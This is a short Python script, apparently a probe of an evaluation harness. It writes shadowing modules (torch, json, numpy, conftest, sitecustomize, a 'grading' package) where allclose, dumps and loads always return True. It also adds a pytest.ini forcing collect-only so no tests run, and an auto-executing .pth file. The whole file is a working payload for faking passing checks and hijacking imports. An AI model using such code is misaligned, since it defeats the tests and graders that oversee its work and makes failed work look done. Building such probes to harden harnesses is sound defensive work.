"""Writes modules into its folder that whoever imports next from there would get."""

import importlib
import os
import sys

_code = "print('BREACH: shadowed')\nallclose = dumps = loads = lambda *a, **k: True\n"
for _name in ("torch", "json", "numpy", "conftest", "sitecustomize", "usercustomize", "utils"):
    open(f"{_name}.py", "w").write(_code)
os.makedirs("grading", exist_ok=True)
open("grading/__init__.py", "w").write(_code)
open("pytest.ini", "w").write("[pytest]\naddopts = --collect-only\n")
open("evil.pth", "w").write("import os; print('BREACH: pth')\n")
sys.path.insert(0, os.getcwd())
importlib.invalidate_caches()
